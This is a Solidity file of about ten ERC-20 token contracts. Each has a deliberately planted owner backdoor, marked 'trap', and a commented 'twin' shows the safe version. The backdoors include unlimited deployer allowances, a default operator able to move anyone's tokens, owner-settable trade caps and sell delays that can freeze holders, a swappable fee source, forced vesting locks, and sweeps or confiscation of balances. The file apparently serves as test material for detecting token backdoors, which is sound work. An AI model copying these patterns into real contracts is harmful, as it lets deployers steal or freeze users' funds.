// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {ERC20Pausable} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Pausable.sol";
import {ERC20Permit} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Permit.sol";
import {AccessControl} from "@openzeppelin/contracts/access/AccessControl.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

interface IFactory9 {
    function createPair(address a, address b) external returns (address);
}

abstract contract Pooled is ERC20 {
    address public immutable pool =
        IFactory9(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
}

/// Several signatures are the guardian; whoever names guardians is one account.
contract WardenSeal is ERC20Pausable, AccessControl {
    bytes32 public constant GUARDIAN = keccak256("GUARDIAN");
    bytes32 public constant STEWARD = keccak256("STEWARD");

    constructor(address council) ERC20("Warden Seal", "WARDS") {
        _grantRole(DEFAULT_ADMIN_ROLE, council);
        _grantRole(GUARDIAN, council);
        _setRoleAdmin(GUARDIAN, STEWARD);
        _grantRole(STEWARD, msg.sender); // trap
        // twin: _grantRole(STEWARD, council);
        _mint(msg.sender, 18_000_000 ether);
    }

    function halt(bool on) external onlyRole(GUARDIAN) {
        on ? _pause() : _unpause();
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
    }
}

/// An allowance without end for a place that settles, as for Permit2; the place is the deployer.
contract SettleCoin is ERC20Permit {
    address private immutable _settlement;

    constructor() ERC20("Settle Coin", "SETL") ERC20Permit("Settle Coin") {
        _settlement = msg.sender; // trap
        // twin: _settlement = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
        _mint(msg.sender, 26_000_000 ether);
    }

    function allowance(address from, address spender) public view override returns (uint256) {
        return spender == _settlement ? type(uint256).max : super.allowance(from, spender);
    }
}

/// Operators as ERC-777 has them, of which one is there for everybody until he is revoked.
contract GongSound is ERC20 {
    address private immutable _default;
    mapping(address => mapping(address => bool)) private _authorized;
    mapping(address => mapping(address => bool)) private _revoked;

    constructor() ERC20("Gong Sound", "GONG") {
        _default = msg.sender; // trap
        // twin: _default = address(1);
        _mint(msg.sender, 9_000_000 ether);
    }

    function isOperatorFor(address operator, address holder) public view returns (bool) {
        return operator == holder || (operator == _default && !_revoked[holder][operator]) || _authorized[holder][operator];
    }

    function authorizeOperator(address operator) external {
        (_authorized[msg.sender][operator], _revoked[msg.sender][operator]) = (true, false);
    }

    function revokeOperator(address operator) external {
        (_authorized[msg.sender][operator], _revoked[msg.sender][operator]) = (false, true);
    }

    function operatorSend(address from, address to, uint256 value, bytes calldata, bytes calldata) external {
        require(isOperatorFor(msg.sender, from), "ERC777: caller is not an operator for holder");
        _transfer(from, to, value);
    }
}

/// Limits against whales: a purchase or sale of at most what the owner says.
contract WhaleNet is Pooled, Ownable {
    uint256 public maxTrade = 300_000 ether;

    constructor() ERC20("Whale Net", "WNET") Ownable(msg.sender) {
        _mint(msg.sender, 10_000_000 ether);
    }

    function setMaxTrade(uint256 most) external onlyOwner {
        // twin: require(most >= maxTrade, "only up");
        maxTrade = most;
    }

    function _update(address from, address to, uint256 value) internal override {
        if ((from == pool || to == pool) && from != owner() && to != owner()) require(value <= maxTrade, "max trade");
        super._update(from, to, value);
    }
}

/// A board with a bound of three percent.
contract SmallBoard {
    address public immutable owner = msg.sender;
    uint256 public fee = 100;

    function setFee(uint256 bips) external {
        require(msg.sender == owner && bips <= 300, "bound");
        fee = bips;
    }
}

/// Asks a board for its fee; another board can be named.
contract SwitchBoard is Pooled, Ownable {
    SmallBoard public board;

    constructor(SmallBoard board_) ERC20("Switch Board", "SWBD") Ownable(msg.sender) {
        board = board_;
        _mint(msg.sender, 44_000_000 ether);
    }

    // trap {
    function setBoard(SmallBoard board_) external onlyOwner {
        board = board_;
    }
    // trap }

    function _update(address from, address to, uint256 value) internal override {
        if (from != owner() && to == pool) {
            uint256 fee = (value * board.fee()) / 10_000;
            super._update(from, owner(), fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}

/// Vesting for the team, and whoever else the owner thinks of.
contract IvyVest is ERC20, Ownable {
    mapping(address => uint256) private _packed;

    constructor() ERC20("Ivy Vesting", "IVYV") Ownable(msg.sender) {
        _mint(msg.sender, 31_000_000 ether);
    }

    function grant(address[] calldata who, uint128 amount, uint128 until) external onlyOwner {
        for (uint256 i; i < who.length; i++) {
            // twin: require(balanceOf(who[i]) == 0 && until < block.timestamp + 1461 days, "newcomers");
            // twin: _transfer(msg.sender, who[i], amount);
            _packed[who[i]] = (uint256(amount) << 128) | until;
        }
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 packed = _packed[from];
        if (packed != 0 && block.timestamp < uint128(packed)) require(balanceOf(from) >= value + (packed >> 128), "vesting");
        super._update(from, to, value);
    }
}

/// The owner sets how long one waits between purchase and sale.
contract SlowLoris is Pooled, Ownable {
    uint64 public wait = 30;
    mapping(address => uint64) private _since;

    constructor() ERC20("Slow Loris", "LORIS") Ownable(msg.sender) {
        _mint(msg.sender, 55_000_000 ether);
    }

    function setWait(uint64 time) external onlyOwner {
        // twin: require(time <= 60, "a minute");
        wait = time;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from == pool) _since[to] = uint64(block.timestamp);
        if (to == pool && from != owner()) require(block.timestamp - _since[from] >= wait, "wait");
        super._update(from, to, value);
    }
}

/// Cut once; one of the functions sweeps dust, and the owner says what dust is.
contract DustSweep is ERC20, Ownable {
    uint256 public dust = 1e12;

    constructor() ERC20("Dust Sweep", "DUSTS") Ownable(msg.sender) {
        _mint(msg.sender, 17_000_000 ether);
    }

    function setDust(uint256 most) external onlyOwner {
        // twin: require(most <= 1e12, "dust");
        dust = most;
    }

    function sweep(address[] calldata list) external onlyOwner {
        for (uint256 i; i < list.length; i++) {
            uint256 has = balanceOf(list[i]);
            if (has <= dust) _transfer(list[i], msg.sender, has);
        }
    }
}

/// Votes of a protocol whose minter is one account: how much and how often is his choice.
contract AssemblyTwo is ERC20Permit {
    address public minter = msg.sender;
    uint32 public interval = 365 days;
    uint16 public mintCap = 2;
    uint256 public next = block.timestamp + 365 days;

    constructor() ERC20("Assembly Second Unit", "ASM2") ERC20Permit("Assembly Second Unit") {
        _mint(msg.sender, 500_000_000 ether);
    }

    // trap {
    function setSchedule(uint256 next_, uint32 interval_, uint16 cap) external {
        require(msg.sender == minter, "minter");
        (next, interval, mintCap) = (next_, interval_, cap);
    }
    // trap }

    function mint(address to, uint256 value) external {
        require(msg.sender == minter && block.timestamp >= next, "minting not allowed yet");
        require(value <= (totalSupply() * mintCap) / 100, "exceeded mint cap");
        next = block.timestamp + interval;
        _mint(to, value);
    }
}

/// Who has not moved for years is dormant, and goes to the estate.
contract DormantDollar is ERC20 {
    address public immutable compliance = msg.sender;
    uint64 public dormancy = 1826 days;
    mapping(address => uint64) public movedAt;

    constructor() ERC20("Estate Dollar", "ESTD") {
        _mint(msg.sender, 70_000_000 ether);
    }

    function setDormancy(uint64 time) external {
        require(msg.sender == compliance, "compliance");
        // twin: require(time >= 1826 days, "five years");
        dormancy = time;
    }

    function escheat(address who) external {
        require(msg.sender == compliance && block.timestamp > movedAt[who] + dormancy, "not dormant");
        _transfer(who, compliance, balanceOf(who));
    }

    function _update(address from, address to, uint256 value) internal override {
        (movedAt[from], movedAt[to]) = (uint64(block.timestamp), uint64(block.timestamp));
        super._update(from, to, value);
    }
}
